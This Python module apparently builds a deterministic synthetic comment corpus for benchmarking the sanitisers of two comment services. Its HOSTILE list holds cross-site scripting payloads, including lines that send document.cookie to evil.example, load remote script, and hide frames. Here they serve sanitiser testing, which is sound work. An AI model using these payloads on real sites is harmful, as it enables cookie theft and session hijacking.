"""The generated comment corpus the peer benchmark seeds both services with and submits.

Realistic in shape, not in meaning (spam quality is measured on the labelled corpora, never on
this): bodies of 200 to 2,000 characters of prose from a few hundred words, with links, benign
inline markup (emphasis, code, a quoted line, a link tag), and about a fifth carrying hostile
markup (script tags, event handlers, ``javascript:`` links, frames, styles) that the sanitisers
must strip. Deterministic: the same seed gives the same corpus, so both services get the same
text. No phone numbers, postcodes or email addresses (the service would hold those, which is
not what is measured), at most two links (the default link limit).
"""

from __future__ import annotations

import dataclasses
import random

_VOCABULARY = (
    "council town centre growth decline industry jobs housing transport skills funding community "
    "high street investment local people plan future report evidence river library market school "
    "bridge park budget rail bus route station regeneration heritage museum theatre business "
    "small large region north south east west coast village county borough ward election vote "
    "policy minister department consultation response survey data figures percent rise fall "
    "income wages rent mortgage tenant landlord planning permission green belt flood defence "
    "energy solar wind heat pump insulation grant scheme apply deadline form online office "
    "hospital clinic doctor nurse waiting list care home social worker volunteer charity trust "
    "football club pitch pool gym cycle lane pavement pothole lighting crime police safety "
    "noise parking charge permit zone traffic congestion air quality pollution tree hedge "
    "allotment garden waste recycling bin collection weekly fortnightly food compost glass "
    "paper plastic metal tip opening hours weekend evening morning summer winter spring autumn "
    "year decade century history old new modern building factory mill canal warehouse shop "
    "cafe pub restaurant hotel tourist visitor guide map sign walk trail hill valley field farm "
    "farmer crop harvest price cost saving debt loan interest bank post office broadband signal "
    "mobile phone app website email letter meeting agenda minutes committee chair member "
    "officer staff team manager director chief executive contract supplier tender value money "
    "quality standard target measure result outcome impact benefit risk issue problem solution "
    "idea proposal change improvement support help advice information question answer reason "
    "example case study experience story family child parent teacher pupil student apprentice "
    "graduate employer worker union pension retirement older younger generation neighbour "
    "friend resident citizen taxpayer commuter driver passenger cyclist walker owner"
)
WORDS = tuple(_VOCABULARY.split())
JOINERS = ("and", "but", "because", "so", "while", "although", "since", "as", "where", "when")
LINKS = (
    "https://www.gov.uk/guidance/levelling-up-the-united-kingdom",
    "https://www.ons.gov.uk/employmentandlabourmarket/peopleinwork",
    "https://en.wikipedia.org/wiki/Deindustrialisation",
    "https://www.example.org/reports/2024/town-centres.pdf",
    "https://news.example.co.uk/local/2024/03/28/high-street-funding",
)
BENIGN = (
    "<b>{w}</b>", "<i>{w}</i>", "<em>{w}</em>", "<strong>{w}</strong>", "<code>{w}</code>",
    '<a href="{link}">{w}</a>', "*{w}*", "**{w}**", "`{w}`",
)  # fmt: skip
HOSTILE = (
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('https://evil.example/?c='+document.cookie)\">",
    '<a href="javascript:alert(1)">read more</a>',
    '<iframe src="https://evil.example/frame" width=0 height=0></iframe>',
    '<svg onload="alert(1)"><circle r=1 /></svg>',
    '<style>body{{display:none}}</style><div style="position:fixed;top:0">{w}</div>',
    '<a href="https://evil.example/" onclick="steal()" target="_blank">{w}</a>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '"><script src=https://evil.example/x.js></script>',
    "<details open ontoggle=alert(1)>{w}</details>",
)
NAMES = (
    "Alex Morgan", "Priya Shah", "Tom O'Brien", "Siân Evans", "Kwame Mensah", "Ruth Adler",
    "Jamie Lee", "Fatima Noor", "Owen Price", "Chloé Martin", "Dev Patel", "Mairi Campbell",
)  # fmt: skip


@dataclasses.dataclass(frozen=True)
class Comment:
    author: str
    email: str
    body: str
    parent: int | None  # index of an earlier comment of the same thread
    hostile: bool


def sentence(rng: random.Random) -> str:
    words = rng.choices(WORDS, k=rng.randint(6, 18))
    if rng.random() < 0.4:
        words.insert(rng.randint(2, len(words) - 1), rng.choice(JOINERS))
    if rng.random() < 0.15:
        words[rng.randrange(len(words))] = str(rng.randint(2, 2024))
    text = " ".join(words)
    return text[0].upper() + text[1:] + rng.choice(".....?!")


def body(rng: random.Random, *, hostile: bool, length: int | None = None) -> str:
    """One comment of about ``length`` characters (200 to 2,000, picked if not given)."""
    target = length or rng.randint(200, 2000)
    paragraphs: list[str] = []
    current: list[str] = []
    links = rng.choice((0, 0, 1, 1, 2))
    size = 0
    while size < target:
        text = sentence(rng)
        roll = rng.random()
        if roll < 0.12:
            w = rng.choice(WORDS)
            text += " " + rng.choice(BENIGN).format(w=w, link=rng.choice(LINKS))
        elif roll < 0.18 and links:
            links -= 1
            text += f" See {rng.choice(LINKS)} for the figures."
        current.append(text)
        size += len(text) + 1
        if len(current) >= rng.randint(2, 5):
            paragraphs.append(" ".join(current))
            current = []
    if current:
        paragraphs.append(" ".join(current))
    if rng.random() < 0.1:
        paragraphs.insert(0, "> " + sentence(rng))
    if hostile:
        at = rng.randrange(len(paragraphs) + 1)
        paragraphs.insert(at, rng.choice(HOSTILE).format(w=rng.choice(WORDS)))
    return "\n\n".join(paragraphs)[:2000]


def thread(seed: int, size: int, *, replies: float = 0.3, hostile: float = 0.2) -> list[Comment]:
    """``size`` comments for one thread, about ``replies`` of them replies to earlier ones."""
    rng = random.Random(seed)
    comments = []
    for n in range(size):
        name = rng.choice(NAMES)
        parent = rng.randrange(n) if n and rng.random() < replies else None
        bad = rng.random() < hostile
        email = f"{name.split()[0].lower()}.{seed}.{n}@example.com".replace("'", "")
        comments.append(Comment(name, email, body(rng, hostile=bad), parent, bad))
    return comments


def submissions(count: int, *, seed: int = 7, length: int = 1000) -> list[str]:
    """``count`` distinct bodies of about ``length`` characters with markup, a fifth hostile."""
    rng = random.Random(seed)
    return [body(rng, hostile=rng.random() < 0.2, length=length) for _ in range(count)]
